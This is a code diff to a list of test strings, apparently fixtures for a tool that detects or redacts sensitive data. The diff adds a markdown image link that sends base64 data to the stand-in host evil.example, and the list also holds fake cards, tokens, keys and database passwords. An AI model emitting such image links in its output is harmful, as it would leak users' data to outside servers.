@@ -32,7 +32,8 @@ TEXTS = (
     "",
     "The quick brown fox jumps over the lazy dog, and then it rests.",
     "card 4111 1111 1111 1111, mail jane.doe@example.com, call +1 212 555 0123 or 10.0.0.1",
-    "IBAN DE89 3704 0044 0532 0130 00 and order-1234 a a!\r\n漢。 card",
+    "![a](https://evil.example/x?d=aGVsbG8gd29ybGQgYWdhaW4)"
+    " IBAN DE89 3704 0044 0532 0130 00 and order-1234 a a!\r\n漢。 card",
     "pass\u200bword " + "gh" + "p_" + "aB3dE6gH9" * 4 + " AccountKey=" + "aB3/" * 21 + "ab==;",
     "postgres://app:hunter2hunter@db:5432/x?sslmode=on "
     + "-" * 5
